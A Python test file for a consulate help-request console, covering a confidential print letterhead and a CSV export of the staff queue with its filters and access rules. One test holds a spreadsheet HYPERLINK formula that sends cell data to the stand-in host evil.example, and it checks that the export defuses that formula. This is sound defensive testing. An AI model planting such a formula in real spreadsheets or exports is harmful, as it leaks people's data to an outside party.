"""A request on paper (print stylesheet, letterhead, personal-data mark) and the queue as a CSV file."""
import csv
import io
import re
import uuid
from datetime import datetime, timedelta, timezone

from app.extensions import db
from app.help.models import HelpRequest

from .test_console_pages import detail_url
from .test_local_time import JEDDAH, written_at

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def csv_file(client, url):
    """GET the file as a browser does: read to its end (the server's temporary file is then closed)."""
    return client.get(url, buffered=True)


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.text[:300]
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


# ---------------------------------------------------------------- print

def test_the_request_page_links_a_print_stylesheet(create_user, login_client, create_request, client):
    _w, request = create_request(presence=True)
    written_at(request["id"])
    page = login_client(create_user(role="staff", full_name="Dewi Lestari")).get(
        detail_url(request["id"]) + "?lang=id").text
    link = re.search(r'<link rel="stylesheet" href="(/static/css/console-print\.css\?v=[0-9a-f]+)" media="print">', page)
    assert link, "print stylesheet not linked with media=print"
    letterhead = re.search(r'<header class="letterhead print-only" id="letterhead">.*?</header>', page, re.S).group(0)
    assert "DATA PRIBADI — RAHASIA" in letterhead
    assert "Konsulat Jenderal Republik Indonesia di Kota Kinabalu" in letterhead and "Karamunsing" in letterhead
    assert request["reference"] in letterhead and "Dewi Lestari" in letterhead
    assert "GMT+08:00" in letterhead  # printed on the mission's clock
    # The worker's personal data carry the mark of their own as well.
    presence = re.search(r'<section class="panel presence" id="presence">.*?</section>', page, re.S).group(0)
    assert '<p class="pii-mark print-only">DATA PRIBADI — RAHASIA</p>' in presence

    css = client.get(link.group(1), buffered=True).get_data(as_text=True)
    assert ".print-only { display: block !important; }" in css
    hidden = re.search(r"header\.bar,[^{]*\{ display: none !important; \}", css, re.S).group(0)
    for part in ("footer.foot", "nav", "form", "button", "#actions", ".no-print"):
        assert part in hidden, part
    # On screen the letterhead stays out of the way.
    screen = client.get(re.search(r'href="(/static/css/console\.css\?v=[^"]+)"', page).group(1),
                        buffered=True).get_data(as_text=True)
    assert ".print-only { display: none; }" in screen


def test_an_english_print_says_confidential_in_both_languages(create_user, login_client, create_request):
    _w, request = create_request()
    page = login_client(create_user(role="staff")).get(detail_url(request["id"]) + "?lang=en").text
    assert "DATA PRIBADI — RAHASIA · Personal data — confidential" in page


# ---------------------------------------------------------------- queue CSV

def test_queue_csv_follows_the_queue_pages_filters(create_user, login_client, create_request, post_form):
    staff = create_user(role="staff", full_name="Dewi Lestari")
    client = login_client(staff)
    _w, wages = create_request(category="unpaid_wages")
    _w, passport = create_request(category="document_withheld", urgency="high")
    _w, elsewhere = create_request(region="MY-10", city="Shah Alam")
    written_at(wages["id"])
    assert post_form(client, f"{detail_url(passport['id'])}/claim").status_code == 303

    everything = rows_of(csv_file(client, "/console/queue.csv"))
    assert [r["reference"] for r in everything] == [passport["reference"], wages["reference"]]  # queue order
    assert elsewhere["reference"] not in {r["reference"] for r in everything}  # another mission's
    assert list(everything[0]) == ["reference", "created_at", "timezone", "mission", "status", "category",
                                   "urgency", "priority", "assignee", "closure_reason", "summary"]
    wages_row = everything[1]
    assert (wages_row["created_at"], wages_row["timezone"]) == ("2026-11-24 00:23", "Asia/Kuching")
    assert (wages_row["mission"], wages_row["status"], wages_row["category"]) == (
        "KJRI-KOTAKINABALU", "new", "unpaid_wages")
    assert everything[0]["assignee"] == "Dewi Lestari"

    assert [r["reference"] for r in rows_of(csv_file(client, "/console/queue.csv?category=unpaid_wages"))] == [
        wages["reference"]]
    assert [r["reference"] for r in rows_of(csv_file(client, "/console/queue.csv?mine=1"))] == [passport["reference"]]
    assert rows_of(csv_file(client, "/console/queue.csv?status=closed")) == []
    # Stray values are ignored as on the page; staff cannot reach another mission by asking.
    assert len(rows_of(csv_file(client, "/console/queue.csv?status=<b>&category=nope"))) == 2
    assert len(rows_of(csv_file(client, "/console/queue.csv?mission=KBRI-KUALALUMPUR"))) == 2

    # The queue page links the file with the filters it shows.
    page = client.get("/console?category=unpaid_wages&status=new").text
    link = re.search(r'<a href="([^"]+)" download id="queue-csv">', page).group(1).replace("&amp;", "&")
    assert link.startswith("/console/queue.csv?") and "category=unpaid_wages" in link and "status=new" in link
    assert [r["reference"] for r in rows_of(csv_file(client, link))] == [wages["reference"]]


def test_queue_csv_cells_are_formula_safe(create_user, login_client, create_request):
    _w, request = create_request(description=FORMULA)
    client = login_client(create_user(role="staff", full_name="+Staff -Name"))
    client.post(f"{detail_url(request['id'])}/claim", data={"csrf_token": client.get_cookie("csrf_access_token").value})
    raw = csv_file(client, "/console/queue.csv").get_data(as_text=True)
    row = rows_of(csv_file(client, "/console/queue.csv"))[0]
    assert row["summary"].startswith("'=HYPERLINK(") and row["assignee"] == "'+Staff -Name"
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw


def test_queue_csv_walks_every_page_of_the_queue(create_user, login_client, create_request, monkeypatch):
    monkeypatch.setattr("app.console.export_views.BATCH", 2)
    made = [create_request()[1] for _ in range(5)]
    start = datetime(2026, 11, 1, tzinfo=timezone.utc)
    for i, request in enumerate(made):
        written_at(request["id"], start + timedelta(hours=i))
    rows = rows_of(csv_file(login_client(create_user(role="staff")), "/console/queue.csv"))
    assert [r["reference"] for r in rows] == [m["reference"] for m in made]


def test_queue_csv_access(create_user, login_client, create_request, client):
    _w, sabah = create_request()
    _w, jeddah = create_request(**JEDDAH)
    admin = login_client(create_user(role="admin"))
    assert {r["reference"] for r in rows_of(csv_file(admin, "/console/queue.csv"))} == {sabah["reference"],
                                                                                   jeddah["reference"]}
    only = rows_of(csv_file(admin, "/console/queue.csv?mission=KJRI-JEDDAH"))
    assert [(r["reference"], r["timezone"]) for r in only] == [(jeddah["reference"], "Asia/Riyadh")]
    response = csv_file(admin, "/console/queue.csv?mission=KJRI-JEDDAH")
    assert re.match(r'attachment; filename="?jembatan-queue-KJRI-JEDDAH-\d{8}\.csv"?$',
                    response.headers["Content-Disposition"])
    worker, _r = create_request()
    assert login_client(worker).get("/console/queue.csv").status_code == 403
    anonymous = client.get("/console/queue.csv")
    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/login")
    assert db.session.get(HelpRequest, uuid.UUID(sabah["id"])) is not None
